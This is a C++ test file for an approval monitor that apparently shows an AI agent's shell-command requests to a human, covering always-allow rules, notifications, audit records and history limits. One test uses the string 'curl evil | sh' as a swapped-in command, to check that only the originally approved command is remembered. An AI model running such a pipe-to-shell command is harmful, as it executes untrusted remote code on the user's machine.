// SPDX-License-Identifier: Apache-2.0
#include "gateway/GatewayStatus.h"
#include "monitor/MonitorFixture.h"
#include "support/FullDisk.h"

#include <limits>

using namespace bram;
using namespace bram::test;
using testing::ElementsAre;

namespace
{

class TestRules final : public AlwaysAllowRules
{
public:
    AlwaysAllowVerdict verdict(const QString &command) const override
    {
        return command == allowed ? AlwaysAllowVerdict::Allowed : AlwaysAllowVerdict::Unknown;
    }
    void remember(const QString &command) override { allowed = command; }
    QString allowed;
};

class TestNotifier final : public ApprovalNotifier
{
public:
    void schedule(const ApprovalItem &item) override { scheduled.append(item.approvalId); }
    void withdraw(const QString &approvalId) override { withdrawn.append(approvalId); }
    void update(const ApprovalItem &item) override { updated.append(item.command); }
    void updateTimes(const ApprovalItem &item) override { expiries.append(item.expiresAtMs); }
    QStringList scheduled;
    QStringList updated;
    QList<qint64> expiries;
    QStringList withdrawn;
};

class TestFilter final : public AgentFilter
{
public:
    bool matches(const ApprovalItem &item) const override { return item.agentId == agent; }
    QString agent;
};

class Intake : public MonitorFixture
{
protected:
    void requested(const ApprovalItem &wanted)
    {
        monitor().handleGatewayEvent(ApprovalRequested {wanted});
    }
    void resolved(const char *id)
    {
        monitor().handleGatewayEvent(ApprovalResolved {QString::fromUtf8(id)});
    }
    QStringList displayedIds()
    {
        QStringList ids;
        for (const auto &shown : board().displayItems()) {
            ids.append(shown.approvalId);
        }
        return ids;
    }

    TestRules rules;
    TestNotifier notifier;
    TestFilter filter;
};

} // namespace

TEST_F(Intake, RepeatedRequestIsReplacedInPlaceCountedAndNotifiedOnce)
{
    ports.notifier = &notifier;
    makeCore();
    requested(item("a"));
    requested(item("b"));
    auto repeated = item("a", "ls -la /changed");
    repeated.createdAtMs = clock.current - 5;
    requested(repeated);

    EXPECT_EQ(board().items().size(), 2);
    EXPECT_EQ(board().items().last(), repeated);
    // What is shown is what would be answered.
    EXPECT_EQ(board().displayItems().first(), repeated);
    EXPECT_EQ(board().history().size(), 2);
    EXPECT_EQ(board().history().last().command, repeated.command);
    EXPECT_EQ(monitor().metrics().requestedCount, 2);
    EXPECT_EQ(notifier.scheduled, QStringList({QStringLiteral("a"), QStringLiteral("b")}));
    // Not notified again, but its buttons stand below the command that they decide about.
    EXPECT_EQ(notifier.updated, QStringList(repeated.command));
    repeated.expiresAtMs = clock.current + 60'000;
    requested(repeated);
    requested(repeated);
    EXPECT_EQ(notifier.updated.size(), 1) << "other times are no other question";
    EXPECT_EQ(notifier.expiries, QList<qint64>({repeated.expiresAtMs}));
    EXPECT_EQ(board().displayItems().first(), repeated);
    EXPECT_THAT(auditKinds(), ElementsAre("approval_requested", "approval_requested"));

    clock.current += 100;
    resolved("a");
    // The earliest creation time counts.
    EXPECT_EQ(monitor().metrics().latencyTotalMs, 105);
    EXPECT_EQ(notifier.withdrawn, QStringList(QStringLiteral("a")));
}

TEST_F(Intake, ListsAreTrimmedButNoRequestGetsOutOfSight)
{
    makeCore();
    for (int i = 0; i < 310; ++i) {
        requested(item(qPrintable(QStringLiteral("r%1").arg(i))));
    }
    EXPECT_EQ(board().items().size(), 50);
    EXPECT_EQ(board().items().first().approvalId, QStringLiteral("r309"));
    EXPECT_EQ(board().history().size(), 300);
    EXPECT_EQ(board().menuBadgeCount(), 310);
    EXPECT_EQ(board().displayItems().first().approvalId, QStringLiteral("r0"));
    EXPECT_NE(board().find(QStringLiteral("r0")), nullptr);
}

TEST(ApprovalHistory, KeepsOfLongCommandsOnlyTheBeginning)
{
    ApprovalHistory history;
    const auto take = [&](const QString &id, const QString &command) {
        history.upsertPending({.approvalId = id, .command = command, .agentId = {}}, 1);
        return *history.row(id);
    };
    constexpr auto most = ApprovalHistory::maxKeptUnits;
    const QString whole(most, u'x');
    EXPECT_EQ(take(QStringLiteral("a"), whole).command, whole);
    EXPECT_EQ(history.commandFor(QStringLiteral("a")), whole);
    const auto cut = take(QStringLiteral("a"), whole.chopped(1) + QStringLiteral("𝒳"));
    EXPECT_TRUE(cut.isCut);
    EXPECT_EQ(cut.command, whole.chopped(1)) << "no half of a character";
    EXPECT_EQ(history.commandFor(QStringLiteral("a")), std::nullopt)
        << "it would be taken for a command";
    EXPECT_FALSE(take(QStringLiteral("a"), QStringLiteral("ls")).isCut);

    for (int i = 0; i < 2 * ApprovalHistory::maxHistoryItems; ++i) {
        take(QString::number(i), whole);
    }
    qsizetype kept = 0;
    for (const auto &row : history.entries()) {
        kept += row.command.size();
    }
    EXPECT_LE(kept, ApprovalHistory::maxKeptUnitsTogether);
    EXPECT_GT(kept, ApprovalHistory::maxKeptUnitsTogether - most);
    EXPECT_FALSE(history.entries().first().isCut);
    EXPECT_EQ(history.entries().last().command.size(), ApprovalHistory::leastKeptUnits);
}

TEST_F(Intake, ResolvedElsewhereCountsOnlyWhatWasPending)
{
    makeCore();
    requested(item("a"));
    clock.current += 40;
    resolved("a");
    resolved("never-seen");
    resolved("a");

    EXPECT_TRUE(board().items().isEmpty());
    EXPECT_EQ(monitor().metrics().externalResolvedCount, 1);
    EXPECT_EQ(monitor().metrics().resolvedCount, 1);
    EXPECT_EQ(board().history().first().approvalId, QStringLiteral("never-seen"));
    EXPECT_EQ(board().history().last().state, ApprovalHistoryState::Resolved);
    EXPECT_THAT(auditKinds(), ElementsAre("approval_requested", "approval_resolved_external"));
    EXPECT_EQ(core->audit().records(0).last().latencyMs, 40);
}

TEST_F(Intake, ImpossibleTimesOfAPeerAreNoTrouble)
{
    makeCore();
    for (const char *id : {"a", "b", "c"}) {
        auto absurd = item(id);
        absurd.createdAtMs = std::numeric_limits<qint64>::max();
        requested(absurd);
        resolved(id);
    }
    EXPECT_EQ(monitor().metrics().resolvedCount, 3);
}

TEST_F(Intake, WhatIsRememberedIsTheCommandThatWasDecidedOn)
{
    ports.alwaysAllow = &rules;
    makeConnectedCore();
    request(item("a", "make test"));
    gateway.setDecisionBehaviour({.fault = DecisionFault::Delay, .delayMs = 50});
    decide("a", ApprovalDecision::AllowAlways);
    requested(item("a", "curl evil | sh"));
    monitor().clearPendingApprovals();
    monitor().clearHistory();
    ASSERT_TRUE(waitSettled(1));
    EXPECT_EQ(rules.allowed, QStringLiteral("make test"));
    EXPECT_EQ(core->audit().records(0).last().commandPreview, QStringLiteral("make …"));
    EXPECT_EQ(core->audit().records(0).last().agentId, QStringLiteral("main"));
}

TEST_F(Intake, NothingIsAnsweredAutomaticallyThatCannotBePutOnRecord)
{
    rules.allowed = QStringLiteral("make test");
    ports.alwaysAllow = &rules;
    makeConnectedCore();
    const AuditLogCondition &condition = monitor().auditHealth().condition();
    {
        const FullDisk full;
        requested(item("other"));
        ASSERT_TRUE(waitUntil([&] { return !condition.isWritable; }));
        requested(item("asked", "make test"));
        EXPECT_EQ(board().askReason(QStringLiteral("asked")), AskReason::NotRecordable);
    }
    ASSERT_TRUE(waitUntil([&] { return condition.isWritable; }));
    requested(item("answered", "make test"));
    EXPECT_EQ(board().find(QStringLiteral("answered")), nullptr);
    EXPECT_EQ(board().items().size(), 2);
    ASSERT_TRUE(waitSettled(1));
}

TEST_F(Intake, AlwaysAllowedCommandIsAnsweredWithoutBeingShown)
{
    rules.allowed = QStringLiteral("make test");
    ports.alwaysAllow = &rules;
    ports.notifier = &notifier;
    makeConnectedCore();
    gateway.announce(item("auto", "make test"));

    ASSERT_TRUE(waitSettled(1));
    EXPECT_EQ(received.first().decision, ApprovalDecision::AllowOnce);
    EXPECT_EQ(board().history().first().state, ApprovalHistoryState::AllowOnce);
    EXPECT_TRUE(notifier.scheduled.isEmpty());
    EXPECT_TRUE(board().items().isEmpty());
}

TEST_F(Intake, AgentFilterHidesButKeeps)
{
    filter.agent = QStringLiteral("main");
    ports.agentFilter = &filter;
    ports.notifier = &notifier;
    makeCore();
    auto foreign = item("foreign");
    foreign.agentId = QStringLiteral("other");
    auto nameless = item("nameless");
    nameless.agentId.reset();
    requested(foreign);
    requested(nameless);
    requested(item("mine"));

    EXPECT_EQ(board().items().size(), 3);
    EXPECT_EQ(displayedIds(), QStringList(QStringLiteral("mine")));
    EXPECT_EQ(notifier.scheduled, QStringList(QStringLiteral("mine")));
}

TEST_F(Intake, AnyEventProvesTheConnectionAndStateLinesAreWrittenOnChangeOnly)
{
    makeCore();
    monitor().handleGatewayEvent(ApprovalResolved {QStringLiteral("made up")});
    EXPECT_EQ(monitor().gatewayStatus().lines().connectionIndicator, IndicatorState::Gray);
    makeConnectedCore();
    core->status().setConnection(QStringLiteral("no decision"), IndicatorState::Red);
    core->status().setTokenState(TokenSyncState::Checking);
    log.clear();
    requested(item("a"));
    EXPECT_EQ(monitor().gatewayStatus().lines().connectionStatus,
              QStringLiteral("Gateway connected"));
    EXPECT_EQ(monitor().gatewayStatus().lines().tokenState, TokenSyncState::Matching);

    const auto stateLines
        = [this] { return log.lines().filter(QStringLiteral("[BrackwenState]")); };
    ASSERT_TRUE(waitUntil([&] { return stateLines().size() == 1; }));
    EXPECT_TRUE(stateLines().first().endsWith(
        QStringLiteral("conn=green token=green pending=1 active=none")));
    requested(item("a"));
    requested(item("b"));
    ASSERT_TRUE(waitUntil([&] { return stateLines().size() >= 2; }));
    EXPECT_EQ(stateLines().size(), 2);
}

TEST_F(Intake, ClearingForgetsHereAndTellsNobody)
{
    ports.notifier = &notifier;
    makeConnectedCore();
    request(item("a"));
    monitor().clearPendingApprovals();
    EXPECT_TRUE(board().displayItems().isEmpty());
    EXPECT_TRUE(received.isEmpty());
    EXPECT_EQ(gateway.pendingItems().size(), 1);
    EXPECT_EQ(notifier.withdrawn, QStringList(QStringLiteral("a")));
    // Announced again, it is a request again.
    request(item("a"));
    EXPECT_EQ(notifier.scheduled.size(), 2);
}
